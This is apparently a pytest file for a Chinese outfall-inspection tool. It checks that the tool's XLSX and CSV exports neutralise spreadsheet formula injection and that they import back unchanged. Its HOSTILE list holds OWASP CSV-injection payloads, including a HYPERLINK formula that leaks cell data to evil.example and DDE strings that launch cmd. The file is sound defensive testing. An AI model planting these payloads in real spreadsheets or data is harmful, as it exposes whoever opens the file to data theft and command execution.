"""Nothing from the data becomes a formula in a spreadsheet the program writes (issue 11,
item 2): every XLSX cell of text is text, every risky CSV cell is quoted, and the
program's own exports still import back unchanged."""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import Any

import pytest

from inspector.services.document import (
    Chart,
    Document,
    Section,
    Series,
    Table,
    write_document,
    write_table,
)
from inspector.services.ledger import export_ledger, import_ledger
from inspector.services.spreadsheet_cells import csv_cell, restore, risky
from tests.conftest import ledger_row, write_ledger

#: What an attacker (or an unlucky clerk) types where a name goes (OWASP CSV injection).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+86 138 0000 0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def formula_cells(path: Path) -> list[tuple[str, str, Any]]:
    """Cells of every sheet that a spreadsheet program would run, or run when edited."""
    from openpyxl import load_workbook

    found = []
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str) and risky(cell.value) and not cell.quotePrefix
                ):
                    found.append((sheet.title, cell.coordinate, cell.value))
    return found


def unchanged(texts: list[str]) -> set[str]:
    """What an XLSX gives back: XML reads a carriage return as a line feed."""
    return {t.replace("\r", "\n") for t in texts}


def xlsx_texts(path: Path) -> set[str]:
    from openpyxl import load_workbook

    book = load_workbook(path)
    return {
        c.value
        for s in book.worksheets
        for r in s.iter_rows()
        for c in r
        if isinstance(c.value, str)
    }


#: A CSV cell that a spreadsheet program would read as a formula.
LIVE = re.compile(r"^[=+\-@\t\r]")


def risky_csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row if LIVE.match(cell)]


def test_the_rule() -> None:
    for text in HOSTILE:
        assert risky(text)
        assert csv_cell(text) == "'" + text
        assert restore(csv_cell(text)) == text
    for text in ("武陟县排口", "1#排口", "A-1", "", "'quoted'"):
        assert csv_cell(text) == text
        assert restore(text) == text
    assert csv_cell(-3.5) == -3.5  # numbers stay numbers


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_reports_and_lists_never_hold_a_formula(tmp_path: Path, suffix: str) -> None:
    """Every writer goes through `services.document` or the ledger's own: titles, facts,
    column names, cells and chart labels may all hold names from the data."""
    table = Table(
        key="t",
        title=HOSTILE[0],
        columns=["编码", HOSTILE[3]],
        rows=[[f"C{n}", text] for n, text in enumerate(HOSTILE)] + [["N", -3]],
    )
    path = tmp_path / f"list{suffix}"
    write_table(table, path, facts=[("县", HOSTILE[1])])
    if suffix == ".csv":
        assert risky_csv_cells(path) == ["-3"]  # a number, not text to neutralise
        with path.open(encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        assert [restore(r[1]) for r in rows[1:-1]] == HOSTILE
        assert rows[-1] == ["N", "-3"]
        return
    assert formula_cells(path) == []
    assert unchanged(HOSTILE) <= xlsx_texts(path)
    doc = Document(
        key="d",
        title=HOSTILE[2],
        facts=[(HOSTILE[3], HOSTILE[4])],
        sections=[
            Section(
                title="节",
                paragraphs=[HOSTILE[5]],
                tables=[table],
                charts=[
                    Chart(
                        key="c",
                        title=HOSTILE[0],
                        kind="bar",
                        categories=[HOSTILE[1], "温县"],
                        series=[Series(HOSTILE[2], [1.0, 2.0])],
                    )
                ],
            )
        ],
    )
    report = tmp_path / "report.xlsx"
    write_document(doc, report)
    assert formula_cells(report) == []
    assert unchanged(HOSTILE) <= xlsx_texts(report)


def _hostile_register(db: Any, tmp_path: Path) -> None:
    rows = [
        ledger_row(1, 排污口名称=HOSTILE[0], 责任主体=HOSTILE[3], 备注=HOSTILE[1]),
        ledger_row(2, 排污口名称=HOSTILE[2], 乡镇=HOSTILE[6], 统一社会信用代码=""),
        ledger_row(3, 排污口名称="武陟县正常排口", 状态="已核实", 责任主体="", 统一社会信用代码=""),
    ]
    for row in rows:
        row["责任主体"] = row["责任主体"] or ""
    report = import_ledger(db, write_ledger(tmp_path / "hostile.csv", rows))
    assert report.ok, [p.render() for p in report.problems]


@pytest.mark.parametrize("public", [False, True])
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_ledger_exports_are_inert_and_import_back_unchanged(
    db: Any, tmp_path: Path, suffix: str, public: bool
) -> None:
    _hostile_register(db, tmp_path)
    path = tmp_path / f"export{suffix}"
    export_ledger(db, path, public=public)
    if suffix == ".csv":
        assert risky_csv_cells(path) == []
    else:
        assert formula_cells(path) == []
    # The export is the register: importing it back changes nothing.
    again = import_ledger(db, path, ignore_unknown=True)
    assert again.ok, [p.render() for p in again.problems]
    assert again.operations == 0
    with db.read() as conn:
        names = {r[0] for r in conn.execute("SELECT name FROM outfall")}
        owners = {r[0] for r in conn.execute("SELECT name FROM owner")}
    assert {HOSTILE[0], HOSTILE[2]} <= names
    assert HOSTILE[3] in owners


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_the_public_list_is_inert(db: Any, tmp_path: Path, suffix: str) -> None:
    from inspector.services.public_list import export_public_list

    _hostile_register(db, tmp_path)
    path = tmp_path / f"公开清单{suffix}"
    export_public_list(db, path)
    if suffix == ".csv":
        assert risky_csv_cells(path) == []
        text = path.read_text(encoding="utf-8-sig")
        assert "'" + HOSTILE[0].replace('"', '""') in text
    else:
        assert formula_cells(path) == []
        assert HOSTILE[0] in xlsx_texts(path)


def test_control_characters_do_not_stop_an_xlsx(tmp_path: Path) -> None:
    """openpyxl refuses a whole workbook over one character XML cannot hold."""
    table = Table(key="t", title="t", columns=["名称"], rows=[["排口\x1b[2J\x07"]])
    path = tmp_path / "list.xlsx"
    write_table(table, path)
    assert "排口\\x1b[2J\\x07" in xlsx_texts(path)
